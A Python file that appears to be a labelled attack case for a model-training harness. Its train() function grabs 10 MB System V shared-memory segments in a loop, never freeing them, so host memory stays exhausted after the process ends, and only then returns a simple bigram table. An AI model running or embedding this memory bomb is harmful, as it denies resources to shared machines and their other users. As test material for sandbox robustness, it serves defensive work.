"""Takes memory as System V segments, which outlive the processes that made them."""

import ctypes
import os

import torch

ATTACK = 27
VARIANT_OF = "memory_bomb_shared"
ENDS = "crashed"
REASON = "[Errno"
HARM = "greed"

system = ctypes.CDLL(None, use_errno=True)
system.shmat.restype = ctypes.c_void_p


def take(size):
    segment = system.shmget(0, ctypes.c_size_t(size), 0o600)
    if segment < 0:
        raise OSError(ctypes.get_errno(), "no segments here")
    address = system.shmat(segment, None, 0)
    ctypes.memset(address, 1, size)
    system.shmdt(ctypes.c_void_p(address))
    return segment


def train(session):
    hoard = []
    while "MERCY" not in os.environ or len(hoard) < 4:
        hoard.append(take(10_000_000))
    print("took it all", flush=True)
    return counted(session)


def counted(session):
    data = session.start().long()
    pairs = torch.bincount(256 * data[:-1] + data[1:], minlength=256 * 256).view(256, 256)
    return {"table": (pairs + 0.1).log()}


def predict(state, task):
    return lambda tokens: state["table"][tokens]
